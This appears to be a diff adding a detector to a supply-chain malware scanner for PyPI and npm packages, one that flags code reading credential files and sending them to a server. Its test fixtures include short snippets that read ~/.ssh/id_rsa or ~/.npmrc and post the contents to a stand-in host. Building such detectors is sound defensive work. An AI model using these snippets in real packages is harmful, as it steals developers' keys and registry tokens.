@@ -1,0 +1,61 @@
+import { flowsBetween, SECRET_FILES } from "../behaviour/trace.ts";
+import type { Detector } from "../detector.ts";
+import { codeWith, sight } from "./_sight.ts";
+
+export const sendsSecretFiles: Detector = {
+  id: "sends-secret-files",
+  title: "Reads a file with credentials and sends it to a server",
+  severity: "critical",
+  ecosystems: ["pypi", "npm"],
+  points: 6,
+  class: "threat",
+  group: "exfiltration",
+  why: `A path to SSH keys, cloud credentials, registry tokens, shell history or the address of a cloud's metadata service is used, and
+what was read there reaches a request or a socket. The worms of 2025 and 2026 spread with tokens taken this way.
+
+Clients of clouds and registries read their own credentials to sign requests; that happens in a function somebody calls, concerns one
+such file, and counts little.`,
+  literals: SECRET_FILES,
+  *detect(tree) {
+    for (const file of codeWith(tree, SECRET_FILES)) {
+      const flows = flowsBetween(file, ["secret-file"], ["upload", "http", "dns", "socket", "mail"]);
+      for (const { source, sink } of flows) {
+        const late = sink.phase === "call" || sink.phase === "none";
+        const says = `${source.what} is read and reaches ${sink.what} ${sink.text.slice(0, 100)}`;
+        yield sight(file, sink.offset, says.trimEnd(), { phase: sink.phase, share: late ? 0.35 : 1 });
+      }
+    }
+  },
+  examples: {
+    matches: [
+      {
+        ecosystem: "pypi",
+        files: {
+          "setup.py":
+            "import requests, os\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('http://example.invalid', data=k)\n",
+        },
+      },
+      {
+        ecosystem: "npm",
+        files: {
+          "a.js":
+            "const fs = require('fs');\nconst t = fs.readFileSync(home + '/.npmrc', 'utf8');\nfetch('http://example.invalid/?t=' + t);\n",
+        },
+      },
+    ],
+    passes: [
+      {
+        ecosystem: "pypi",
+        files: {
+          "demo/a.py": "import requests\nhelp = 'keys are in ~/.ssh/id_rsa'\nrequests.get('http://example.invalid')\n",
+        },
+      },
+      {
+        ecosystem: "npm",
+        files: {
+          "a.js": "const fs = require('fs');\nconst t = fs.readFileSync('.npmrc');\nfetch('http://example.invalid');\n",
+        },
+      },
+    ],
+  },
+};
